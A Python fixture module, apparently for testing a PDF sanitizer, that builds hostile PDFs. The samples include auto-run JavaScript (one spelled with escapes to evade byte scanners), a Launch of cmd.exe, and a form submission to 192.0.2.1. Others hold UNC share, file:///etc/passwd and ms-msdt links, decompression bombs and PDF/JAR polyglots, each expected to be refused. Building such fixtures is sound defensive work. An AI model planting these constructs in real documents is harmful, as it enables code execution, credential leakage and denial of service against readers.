"""PDFs with something wrong in them, each named after what it is."""

import zipfile
import zlib
from collections.abc import Callable
from io import BytesIO
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, String

Change = Callable[[pikepdf.Pdf], None]


def plain(pages: int = 1, change: Change | None = None, **save: object) -> bytes:
    """A harmless PDF, changed as asked."""
    document = pikepdf.new()
    for number in range(pages):
        document.add_blank_page()
        document.pages[number].Contents = document.make_stream(b"0 0 m 100 100 l S")
    if change is not None:
        change(document)
    out = BytesIO()
    document.save(out, **save)  # type: ignore[arg-type]
    return out.getvalue()


def _action(kind: str, **more: Any) -> Dictionary:
    return Dictionary(S=Name("/" + kind), **more)


def _script_at_opening(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = _action("JavaScript", JS=String("app.alert(1)"))


def _script_by_name(pdf: pikepdf.Pdf) -> None:
    action = pdf.make_indirect(_action("JavaScript", JS=String("app.alert(1)")))
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("x"), action])))


def _script_in_a_stream(pdf: pikepdf.Pdf) -> None:
    action = _action("JavaScript", JS=pdf.make_stream(b"app.alert(1)"))
    _annotate(pdf, Subtype=Name.Link, A=action)


def _annotate(pdf: pikepdf.Pdf, **entries: Any) -> None:
    note = pdf.make_indirect(Dictionary(Type=Name.Annot, Rect=Array([0, 0, 9, 9]), **entries))
    pdf.pages[0].obj.Annots = Array([note])


def _start_a_program(pdf: pikepdf.Pdf) -> None:
    pdf.Root.AA = Dictionary(WC=_action("Launch", F=String("cmd.exe")))


def _send_a_form_after_another_action(pdf: pikepdf.Pdf) -> None:
    last = _action("SubmitForm", F=String("http://192.0.2.1/"))
    pdf.Root.OpenAction = _action("Named", N=Name.NextPage, Next=Array([last]))


def _open_a_file_of_another_machine(pdf: pikepdf.Pdf) -> None:
    _annotate(pdf, Subtype=Name.Link, A=_action("GoToR", F=String(r"\\192.0.2.1\share\x.pdf"), D=Array([0, Name.Fit])))


def _carry_a_file(pdf: pikepdf.Pdf) -> None:
    pdf.attachments["evil.exe"] = b"MZ"


def _show_a_film(pdf: pikepdf.Pdf) -> None:
    _annotate(pdf, Subtype=Name.RichMedia, RichMediaContent=Dictionary())


def _ask_for_a_dynamic_form(pdf: pikepdf.Pdf) -> None:
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=pdf.make_stream(b"<xdp/>"))


def _keep_content_elsewhere(pdf: pikepdf.Pdf) -> None:
    stream = pdf.make_stream(b"")
    stream.F = String("http://192.0.2.1/content")
    pdf.pages[0].obj.Contents = stream


def _link_to_a_site(pdf: pikepdf.Pdf) -> None:
    _annotate(pdf, Subtype=Name.Link, A=_action("URI", URI=String("https://example.com/")))


def _site() -> Dictionary:
    return _action("URI", URI=String("http://192.0.2.1/"))


def _open_a_site_at_once(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = _site()


def _open_a_site_when_a_page_is_seen(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].obj.AA = Dictionary(O=_action("Named", N=Name.NextPage, Next=Array([pdf.make_indirect(_site())])))


def _draw_a_page_of_another_file(pdf: pikepdf.Pdf) -> None:
    form = pdf.make_stream(b"", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 9, 9]))
    form.Ref = Dictionary(F=String("other.pdf"), Page=0)
    pdf.pages[0].obj.Resources = Dictionary(XObject=Dictionary(X=form))


def _name_a_file_by_its_address(pdf: pikepdf.Pdf) -> None:
    where = Dictionary(Type=Name.Filespec, FS=Name.URL, F=String("http://192.0.2.1/x.pdf"))
    _annotate(pdf, Subtype=Name.Link, A=_action("Thread", F=where, D=0))


def _show_one_thing_and_print_another(pdf: pikepdf.Pdf) -> None:
    group = pdf.make_indirect(Dictionary(Type=Name.OCG, Name=String("只打印")))
    pdf.Root.OCProperties = Dictionary(OCGs=Array([group]), D=Dictionary(OFF=Array([group])))


def _hide_a_script_in_direct_arrays(pdf: pikepdf.Pdf) -> None:
    deep: object = _action("JavaScript", JS=String("x"))
    for _ in range(50):
        deep = Array([deep])
    pdf.Root.Odd = deep


def disguised_script() -> bytes:
    """The word JavaScript is written with an escape, as scanners that look for the bytes do not expect."""
    clear = plain(change=_script_at_opening, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    return clear.replace(b"/S /JavaScript", b"/S /Java#53cript", 1).replace(b"/JS ", b"/#4a#53 ", 1)


def packed_again_and_again(piece: bytes, times: int) -> bytes:
    """The piece, so many times over, as zlib would pack it; it is packed once and its checksum reckoned on."""
    packer = zlib.compressobj(9, wbits=-zlib.MAX_WBITS)
    block = packer.compress(piece) + packer.flush(zlib.Z_FULL_FLUSH)
    step, prime = zlib.adler32(piece), 65521
    low, high = 1, 0
    for _ in range(times):
        high = (high + len(piece) * (low - 1) + (step >> 16)) % prime
        low = (low + (step & 0xFFFF) - 1) % prime
    return b"\x78\xda" + block * times + packer.flush() + ((high << 16) | low).to_bytes(4, "big")


def content_bomb(megabytes: int = 200) -> bytes:
    """A small file whose page unpacks to far more than any page needs."""
    packed = packed_again_and_again(b"0 0 m 500 500 l S\n" * 58_000, megabytes)

    def fill(pdf: pikepdf.Pdf) -> None:
        stream = pdf.make_stream(b"")
        stream.write(packed, filter=Name.FlateDecode)
        pdf.pages[0].obj.Contents = stream

    return plain(change=fill, compress_streams=False)


def nested_forms(depth: int = 30) -> bytes:
    """Each drawing contains the one below ten times: a few kilobytes, and more strokes than there is time for."""

    def nest(pdf: pikepdf.Pdf) -> None:
        form = _form(pdf, b"0 0 m 500 500 l S " * 50, None)
        for _ in range(depth):
            form = _form(pdf, b"/X Do " * 10, form)
        pdf.pages[0].obj.Resources = Dictionary(XObject=Dictionary(X=form))
        pdf.pages[0].obj.Contents = pdf.make_stream(b"/X Do")

    return plain(change=nest)


def _form(pdf: pikepdf.Pdf, content: bytes, inner: pikepdf.Object | None) -> pikepdf.Object:
    resources = Dictionary() if inner is None else Dictionary(XObject=Dictionary(X=inner))
    return pdf.make_stream(
        content, Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 600, 800]), Resources=resources
    )


def object_stream_bomb(megabytes: int = 2000) -> bytes:
    """The table of objects itself unpacks to more memory than the inspection may use."""
    packed = packed_again_and_again(bytes(1 << 20), megabytes)
    head = b"%PDF-1.7\n1 0 obj\n<</Type/XRef/Size 3/W[1 2 1]/Root 2 0 R/Filter/FlateDecode/Length "
    start = head + str(len(packed)).encode() + b">>\nstream\n" + packed
    return start + b"\nendstream\nendobj\nstartxref\n9\n%%EOF\n"


def picture_bomb() -> bytes:
    """A picture that claims ten billion pixels."""

    def paste(pdf: pikepdf.Pdf) -> None:
        picture = pdf.make_stream(
            b"x", Subtype=Name.Image, Width=100_000, Height=100_000, BitsPerComponent=8, ColorSpace=Name.DeviceGray
        )
        pdf.pages[0].obj.Resources = Dictionary(XObject=Dictionary(X=picture))

    return plain(change=paste)


def large_scan() -> bytes:
    """Harmless: a page with a picture of thirty million bytes."""

    def paste(pdf: pikepdf.Pdf) -> None:
        picture = pdf.make_stream(bytes(30_000_000), Subtype=Name.Image, Width=6000, Height=5000)
        pdf.pages[0].obj.Resources = Dictionary(XObject=Dictionary(X=picture))

    return plain(change=paste, compress_streams=False)


def enormous_page() -> bytes:
    """A page of half a kilometre."""

    def enlarge(pdf: pikepdf.Pdf) -> None:
        pdf.pages[0].obj.MediaBox = Array([0, 0, 14400, 14400])
        pdf.pages[0].obj.UserUnit = 100

    return plain(change=enlarge)


def endless_page_tree() -> bytes:
    """A page tree that contains itself."""

    def bend(pdf: pikepdf.Pdf) -> None:
        pdf.Root.Pages.Kids.append(pdf.Root.Pages)

    return plain(change=bend)


def with_password(user: str, owner: str) -> bytes:
    """An encrypted PDF."""
    return plain(encryption=pikepdf.Encryption(user=user, owner=owner))


def _link_to(address: str) -> Change:
    return lambda pdf: _annotate(pdf, Subtype=Name.Link, A=_action("URI", URI=String(address)))


def _every_link_begins_with_a_script(pdf: pikepdf.Pdf) -> None:
    pdf.Root.URI = Dictionary(Base=String("javascript:"))


def _go_to_a_thread_elsewhere(pdf: pikepdf.Pdf) -> None:
    _annotate(pdf, Subtype=Name.Link, A=_action("Thread", F=String("other.pdf"), D=0))


def _a_stream_that_nobody_can_unpack(pdf: pikepdf.Pdf) -> None:
    stream = pdf.make_stream(b"x" * 100)
    stream.Filter = Name.SomethingDecode
    pdf.pages[0].obj.Contents = stream


def _a_small_picture_that_unpacks_to_a_large_one(pdf: pikepdf.Pdf) -> None:
    picture = pikepdf.Stream(pdf, zlib.compress(b"\0" * 80_000_000))
    picture.Type, picture.Subtype, picture.Width, picture.Height = Name.XObject, Name.Image, 1, 1
    picture.ColorSpace, picture.BitsPerComponent, picture.Filter = Name.DeviceGray, 8, Name.FlateDecode
    pdf.pages[0].obj.Resources = Dictionary(XObject=Dictionary(P=pdf.make_indirect(picture)))


def _layer(**usage: Dictionary) -> Change:
    def add(pdf: pikepdf.Pdf) -> None:
        group = pdf.make_indirect(Dictionary(Type=Name.OCG, Name=String("甲"), Usage=Dictionary(**usage)))
        pdf.Root.OCProperties = Dictionary(OCGs=Array([group]), D=Dictionary(ON=Array([group])))

    return add


def _note_that_is_only_printed(pdf: pikepdf.Pdf) -> None:
    _annotate(pdf, Subtype=Name.Stamp, F=4 | 32)


def _another_picture_for_the_printer(pdf: pikepdf.Pdf) -> None:
    other = pdf.make_stream(b"x", Subtype=Name.Image, Width=1, Height=1)
    picture = pdf.make_stream(b"x", Subtype=Name.Image, Width=1, Height=1, BitsPerComponent=8)
    picture.ColorSpace, picture.Alternates = Name.DeviceGray, Array([Dictionary(Image=other, DefaultForPrinting=True)])
    pdf.pages[0].obj.Resources = Dictionary(XObject=Dictionary(P=picture))


def _packed_twice(pdf: pikepdf.Pdf) -> None:
    stream = pdf.make_stream(b"")
    packed = zlib.compress(zlib.compress(b"0 0 m 9 9 l S" * 1000))
    stream.write(packed, filter=Array([Name.FlateDecode, Name.FlateDecode]))
    pdf.pages[0].obj.Contents = stream


def with_archive() -> bytes:
    """A PDF that a program which reads archives from their end takes for one, as Java does with a JAR."""
    made = BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        archive.writestr("META-INF/MANIFEST.MF", "Main-Class: Evil\n")
        archive.comment = b"\n%%EOF\n"
    return plain() + made.getvalue()


def with_mark(mark: bytes, place: int | None = None) -> bytes:
    """A PDF that bears the mark by which another program knows its files."""
    pdf = plain()
    head, rest = pdf[:15], pdf[15:]
    return head + b"%" + b" " * ((place or 100) - len(head) - 1) + mark + b"\n" + rest


REFUSED: dict[str, tuple[Callable[[], bytes], str]] = {
    "runs a script when opened": (lambda: plain(change=_script_at_opening), "javascript"),
    "runs a script by name": (lambda: plain(change=_script_by_name), "javascript"),
    "runs a script kept in a stream": (lambda: plain(change=_script_in_a_stream), "javascript"),
    "runs a script hidden in nested arrays": (lambda: plain(change=_hide_a_script_in_direct_arrays), "javascript"),
    "spells JavaScript with an escape": (disguised_script, "javascript"),
    "links to a script": (lambda: plain(change=_link_to("javascript:app.alert(1)")), "javascript"),
    "links to a script, hidden with blanks": (lambda: plain(change=_link_to(" java\tscript\n:alert(1)")), "javascript"),
    "links to pages that it carries as text": (lambda: plain(change=_link_to("DATA:text/html,<script>")), "javascript"),
    "links to a file of the reader": (lambda: plain(change=_link_to("file:///etc/passwd")), "launch"),
    "links to a share": (lambda: plain(change=_link_to("\\\\192.0.2.1\\share")), "launch"),
    "begins every link with a script": (lambda: plain(change=_every_link_begins_with_a_script), "javascript"),
    "goes on in a thread of another file": (lambda: plain(change=_go_to_a_thread_elsewhere), "remote_goto"),
    "holds what cannot be weighed": (
        lambda: plain(change=_a_stream_that_nobody_can_unpack, compress_streams=False),
        "damaged",
    ),
    "has a picture of one point that unpacks to 80 MB": (
        lambda: plain(change=_a_small_picture_that_unpacks_to_a_large_one),
        "too_heavy",
    ),
    "starts a program when closed": (lambda: plain(change=_start_a_program), "launch"),
    "sends a form as a second action": (lambda: plain(change=_send_a_form_after_another_action), "submit_form"),
    "opens a file of another machine": (lambda: plain(change=_open_a_file_of_another_machine), "remote_goto"),
    "carries another file": (lambda: plain(change=_carry_a_file), "embedded_file"),
    "shows a film": (lambda: plain(change=_show_a_film), "rich_media"),
    "is a dynamic form": (lambda: plain(change=_ask_for_a_dynamic_form), "xfa"),
    "keeps its content elsewhere": (lambda: plain(change=_keep_content_elsewhere), "external_stream"),
    "opens a site by itself": (lambda: plain(change=_open_a_site_at_once), "self_opening"),
    "opens a site when a page is seen": (lambda: plain(change=_open_a_site_when_a_page_is_seen), "self_opening"),
    "draws a page of another file": (lambda: plain(change=_draw_a_page_of_another_file), "external_stream"),
    "names a file by its address": (lambda: plain(change=_name_a_file_by_its_address), "remote_goto"),
    "needs a password": (lambda: with_password("secret", "secret"), "encrypted"),
    "is restricted by its owner": (lambda: with_password("", "secret"), "encrypted"),
    "is a web page before it is a PDF": (lambda: b"<html><script>1</script></html>" + plain(), "foreign_start"),
    "is cut short": (lambda: plain(20)[:-300], "truncated"),
    "is cut to half": (lambda: plain(20)[:2000], "truncated"),
    "is a Word file": (lambda: b"PK\x03\x04" + bytes(2000), "not_a_pdf"),
    "is plain text": ("起诉状".encode, "not_a_pdf"),
    "is empty": (lambda: b"", "empty"),
    "is a Java program too": (with_archive, "two_files"),
    "is a tape archive too": (lambda: with_mark(b"ustar", 257), "two_files"),
    "is the picture of a disc too": (lambda: with_mark(b"CD001", 32_769), "two_files"),
    "is an archive in the middle too": (lambda: with_mark(b"Rar!\x1a\x07\x01\0"), "two_files"),
    "starts a program of the reader by a link": (
        lambda: plain(change=_link_to("ms-msdt:/id PCWDiagnostic /param x")),
        "launch",
    ),
    "starts another by a link": (lambda: plain(change=_link_to("Search-MS:query=x&crumb=location:\\\\x")), "launch"),
    "links into an archive": (lambda: plain(change=_link_to("jar:https://a.example/x!/y")), "launch"),
    "has a layer that is only printed": (
        lambda: plain(change=_layer(View=Dictionary(ViewState=Name.OFF), Print=Dictionary(PrintState=Name.ON))),
        "prints_otherwise",
    ),
    "has a layer that is never printed": (
        lambda: plain(change=_layer(Print=Dictionary(PrintState=Name.OFF))),
        "prints_otherwise",
    ),
    "has a note that is only printed": (lambda: plain(change=_note_that_is_only_printed), "prints_otherwise"),
    "has another picture for the printer": (lambda: plain(change=_another_picture_for_the_printer), "prints_otherwise"),
    "is packed twice": (lambda: plain(change=_packed_twice, compress_streams=False), "too_heavy"),
    "is only a start and an end": (lambda: b"%PDF-1.7\n%%EOF", "damaged"),
    "has no pages": (lambda: plain(0), "no_pages"),
    "has a page tree without end": (endless_page_tree, "damaged"),
    "has a page that unpacks to 200 MB": (content_bomb, "too_heavy"),
    "has an object table that unpacks to 2 GB": (object_stream_bomb, "too_heavy"),
    "has a picture of ten billion pixels": (picture_bomb, "too_heavy"),
}

WITH_LINK = _link_to_a_site
WITH_LAYERS = _show_one_thing_and_print_another
